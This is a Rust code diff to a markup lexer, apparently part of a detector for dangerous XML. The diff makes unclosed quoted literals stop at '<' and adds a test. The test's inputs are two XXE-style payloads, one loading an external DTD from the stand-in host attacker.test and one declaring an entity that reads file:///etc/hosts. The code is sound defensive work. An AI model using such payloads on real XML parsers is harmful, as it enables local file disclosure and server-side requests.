@@ -311,15 +311,17 @@ fn reference(text: &[u8], at: usize, sigil: u8, st: &mut State) -> usize {
     end + 1
 }
 
-/// A quoted literal at `at`: where lexing goes on, and its content (empty if there is none).
+/// A quoted literal at `at`: where lexing goes on, and its content (empty if there is none). A literal stops at a
+/// `<` (no identifier or encoding name holds one), so an unclosed quote cannot hide the markup after it.
 fn literal(text: &[u8], at: usize) -> (usize, &[u8]) {
     let quote = lower(text, at);
     if quote != b'"' && quote != b'\'' {
         return (at, &[]);
     }
     let rest = text.get(at + 1..).unwrap_or_default();
-    match memchr::memchr(quote, rest) {
-        Some(len) => (at + 2 + len, rest.get(..len).unwrap_or_default()),
+    match memchr::memchr2(quote, b'<', rest) {
+        Some(len) if rest.get(len) == Some(&quote) => (at + 2 + len, rest.get(..len).unwrap_or_default()),
+        Some(len) => (at + 1 + len, rest.get(..len).unwrap_or_default()),
         None => (text.len(), rest),
     }
 }
@@ -436,6 +438,16 @@ mod tests {
         let subject = Subject::plain(&utf16, &utf16, Place::Body);
         assert!(detect(&subject, Sensitivity::High));
         assert!(!detect(&subject, Sensitivity::Medium));
+    }
+
+    #[test]
+    fn an_unclosed_quote_hides_nothing() {
+        for text in [
+            r#"<?xml version="1.0" encoding='utf-8?><!DOCTYPE r SYSTEM "http://attacker.test/x.dtd"><r a='b'/>"#,
+            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN <!ENTITY e SYSTEM 'file:///etc/hosts'>"#,
+        ] {
+            assert_eq!(level(text), Some(Sensitivity::Low), "{text}");
+        }
     }
 
     #[test]
